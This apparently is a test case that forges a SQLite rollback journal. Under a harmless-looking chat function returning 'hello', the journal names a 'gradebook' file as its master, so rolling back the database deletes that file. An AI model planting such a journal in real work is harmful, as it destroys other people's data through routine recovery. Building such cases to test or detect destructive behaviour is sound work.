"""Leaves a journal that names the gradebook as its master: who rolls it back deletes that file.

expects: 0
"""

# cell: chat
import sqlite3
import struct

MAGIC = bytes.fromhex("d9d505f920a163d7")


def chat(folder, user_id, thread_id, text):
    file = f"{folder}/conversations.db"
    with sqlite3.connect(file) as db:
        db.execute("CREATE TABLE writes (channel)")
    db.close()
    pages = os.path.getsize(file) // 4096
    head = MAGIC + struct.pack(">IIIII", 0, 12345, pages, 512, 4096)
    master = FACTS["gradebook"].encode()
    tail = struct.pack(">I", 0x40000000 // 4096 + 1) + master
    tail += struct.pack(">II", len(master), sum(master)) + MAGIC
    with open(f"{file}-journal", "wb") as journal:
        journal.write(head.ljust(512, b"\0") + tail)
    return "hello"
